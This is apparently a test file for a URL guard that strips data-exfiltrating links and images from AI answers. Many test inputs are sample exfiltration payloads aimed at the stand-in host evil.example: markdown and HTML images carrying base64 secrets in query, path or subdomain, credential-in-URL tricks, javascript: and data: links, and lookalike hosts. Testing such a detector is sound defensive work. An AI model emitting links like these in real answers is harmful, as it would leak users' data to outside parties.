"""The guard `urls`: no link or image of an answer carries data away, with or without a click."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from silas.gates.guards import GuardDecision, GuardOptionsInvalid, Subject, built_in_guards
from silas.gates.guards.urls import LinkKind, find_links

GUARDS = built_in_guards()
DATA = "TXkgcGFzc3dvcmQgaXMgaHVudGVyMg"


def rules(text: str, **options: object) -> list[str]:
    verdict = GUARDS.check("urls", text, GUARDS.options("urls", options))
    return [each.rule for each in verdict.findings]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (f"![x](https://evil.example/p?d={DATA})", "foreign-image"),
        ("![x]( <https://evil.example/p.png> )", "foreign-image"),
        ("![a [nested] alt](https://evil.example/p.png)", "foreign-image"),
        ("![x][ref]\n\n[ref]: https://evil.example/p.png", "foreign-image"),
        ("![ref]\n\n[ref]: <https://evil.example/p.png>", "foreign-image"),
        ('<IMG alt="" SRC = "HTTPS://evil.example/p.png">', "foreign-image"),
        ("<div style='background: url(https://evil.example/x)'>", "foreign-image"),
        ('<link rel="stylesheet" href="//evil.example/x.css">', "foreign-image"),
        (f"see https://evil.example/?q={DATA}", "data-in-query"),
        (f"[here](https://evil.example/#{DATA})", "data-in-query"),
        ("https://evil.example/?q=" + "my+bank+account+is+empty+" * 4, "data-in-query"),
        ("https://evil.example/?q=" + "%6d%79" * 10, "data-in-query"),
        (f"https://evil.example/{DATA}{DATA}", "data-in-path"),
        ("https://evil.example/" + "word-" * 90, "data-in-path"),
        (f"https://{DATA.lower()}.evil.example/", "data-in-host"),
        ("https://a.b.c.d.e.f.g.h.evil.example/", "data-in-host"),
        ("https://anna:secret@example.com/", "user-in-link"),
        ("https://bank.example@evil.example/", "user-in-link"),
        ("https:\\\\bank.example\\@evil.example", "data-in-path"),
        ("[x](javascript:alert(1))", "acting-link"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "acting-link"),
        ("https://xn--80ak6aa92e.com/", "lookalike-host"),
        ("https://gооgle.com/", "lookalike-host"),
        ("https://xn--99999999999/", "lookalike-host"),
        (f"[https://a.example](https://evil.example/?q={DATA})", "data-in-query"),
        ("![https://a.example](https://evil.example/p.png)", "foreign-image"),
        (f"https://evil.example/)?q={DATA}", "data-in-query"),
        (f"(https://evil.example/)?q={DATA}", "data-in-query"),
        (f"https://evil.example/'?q={DATA}", "data-in-query"),
        (f"https://evil.example/](?q={DATA}", "data-in-query"),
        (f"[x](<https://evil.example/)?q={DATA}>)", "data-in-query"),
        (f'<a href="https://evil.example/)?q={DATA}">', "data-in-query"),
    ],
)
def test_found(text: str, rule: str) -> None:
    if rule == "data-in-path" and "\\" in text:
        # Browsers read the backslash as a slash: the host is the first one, which is what is shown.
        (link,) = find_links(Subject(text), most=1) or []
        assert (link.host, link.user) == ("bank.example", "")
        return
    assert rules(text) == [rule]


@pytest.mark.parametrize(
    "text",
    [
        "https://docs.python.org/3/library/re.html#re.compile",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=43s",
        "https://example.com/search?q=bread+recipe&page=2",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://en.wikipedia.org/wiki/Zebra_(animal)",
        "https://münchen.de/ https://почта.рф/",
        "(see https://example.com/a, or https://example.com/b.)",
        "the data: see //comments in the code",
        "[a](/relative/path) ![b](images/local.png)",
        "mailto:anna@example.com",
    ],
)
def test_ordinary_links_pass(text: str) -> None:
    assert rules(text) == []


def test_allowed_hosts_may_carry_data_and_show_images() -> None:
    text = f"![x](https://img.example.com/{DATA}{DATA}?q={DATA})"
    assert rules(text, allowed_hosts=["example.com"]) == []
    assert rules(text, allowed_hosts=["ample.com"]) == ["foreign-image"]
    assert rules("https://a:b@example.com/", allowed_hosts=["example.com"]) == ["user-in-link"]


@pytest.mark.parametrize("host", ["", "*.example.com", "https://example.com", "a/b", "a:80"])
def test_an_allowed_host_is_a_plain_name(host: str) -> None:
    with pytest.raises(GuardOptionsInvalid):
        GUARDS.options("urls", {"allowed_hosts": [host]})


@pytest.mark.parametrize(
    ("text", "mended"),
    [
        (f"see https://evil.example/a?q={DATA}.", "see https://evil.example/a."),
        ("![x](https://evil.example/p.png) ok", "![x]([image removed]) ok"),
        ("[x](javascript:alert(1)) ok", "[x]([link removed]) ok"),
        (
            f"[https://a.example](https://evil.example/a?q={DATA}) ok",
            "[https://a.example](https://evil.example/a) ok",
        ),
        ("a https://u:p@evil.example/ b", "a [link removed] b"),
    ],
)
def test_mended(text: str, mended: str) -> None:
    assert GUARDS.check("urls", text).fixed_text == mended


@given(
    st.lists(
        st.sampled_from(
            [
                "http://",
                "https://",
                "a.example",
                "/",
                "?q=",
                "#",
                DATA,
                "@",
                "u:p",
                "![x](",
                ")",
                "javascript:",
                "data:text/html,",
                " ",
                "\n",
                "[1]: ",
                "<img src=",
                "xn--",
                ".",
            ]
        ),
        max_size=30,
    )
)
def test_what_is_mended_passes(parts: list[str]) -> None:
    verdict = GUARDS.check("urls", "".join(parts))
    if verdict.decision is GuardDecision.FIX:
        assert verdict.fixed_text is not None
        again = GUARDS.check("urls", verdict.fixed_text)
        assert again.decision is GuardDecision.PASS, (verdict.fixed_text, again.findings)


def test_too_many_links_are_stopped_whatever_the_mode() -> None:
    assert GUARDS.check("urls", "http://a.example/ " * 600).decision is GuardDecision.BLOCK


def test_an_image_is_told_from_a_link_beside_it() -> None:
    text = "![a](https://a.example/1) [b](https://b.example/2)"
    kinds = [link.kind for link in find_links(Subject(text), most=10) or []]
    assert kinds == [LinkKind.IMAGE, LinkKind.LINK]
